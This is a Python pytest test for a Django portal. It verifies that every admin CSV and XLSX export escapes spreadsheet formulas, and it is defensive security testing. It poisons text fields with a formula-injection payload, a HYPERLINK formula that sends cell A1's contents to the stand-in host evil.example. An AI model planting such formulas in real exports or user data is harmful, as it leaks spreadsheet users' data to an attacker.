"""Every admin export, with a hostile value in every text field, writes no cell a spreadsheet would run."""

import csv
import io

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.db import models
from django.db.models.functions import Cast, Concat, Left
from django.test import RequestFactory
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

from reminders.models import Reminder
from snitem_portal.exports import FORMULA_PREFIXES

pytestmark = pytest.mark.django_db

HOSTILE = '+HYPERLINK("https://evil.example/?"&A1,"Cliquez")'


def _exporting_admins():
    return [admin_ for admin_ in admin.site._registry.values() if getattr(admin_, "resource_classes", None)]


def _poison_every_text_field(model) -> None:
    """Every free-text column of every row becomes ``=<pk>+HYPERLINK(...)`` (unique, within max_length)."""
    for field in model._meta.concrete_fields:
        if isinstance(field, models.CharField | models.TextField) and not (field.primary_key or field.choices):
            value = Concat(models.Value("="), Cast("pk", models.CharField()), models.Value(HOSTILE))
            if field.max_length:
                value = Left(value, field.max_length)
            model._default_manager.update(**{field.attname: value})


def _cells(format_class, data) -> list[str]:
    if format_class is CSV:
        return [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_every_admin_export_neutralises_formulae(settings, staff):
    settings.DEBUG = True
    call_command("seed_demo", "--scale", "1", stdout=io.StringIO())
    call_command("send_reminders", stdout=io.StringIO())
    request = RequestFactory().get("/admin/")
    request.user = staff
    admins = _exporting_admins()
    for model_admin in admins:
        _poison_every_text_field(model_admin.model)
    exported = {}

    for model_admin in admins:
        for resource_class in model_admin.get_export_resource_classes(request):
            dataset = resource_class().export(queryset=model_admin.get_export_queryset(request))
            for format_class in (CSV, XLSX):
                exported[(model_admin.model.__name__, format_class.__name__)] = (
                    len(dataset),
                    _cells(format_class, format_class().export_data(dataset)),
                )

    assert Reminder.objects.exists()
    assert {name for name, _format in exported} >= {
        "User",
        "Company",
        "Affiliation",
        "Membership",
        "Action",
        "Consultation",
        "Position",
        "Submission",
        "Reminder",
    }
    assert {key: rows for key, (rows, _cells) in exported.items() if rows == 0} == {}
    dangerous = {
        key: [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] for key, (_rows, cells) in exported.items()
    }
    assert {key: cells[:3] for key, cells in dangerous.items() if cells} == {}
    assert any(cell.startswith("'=") for _rows, cells in exported.values() for cell in cells)
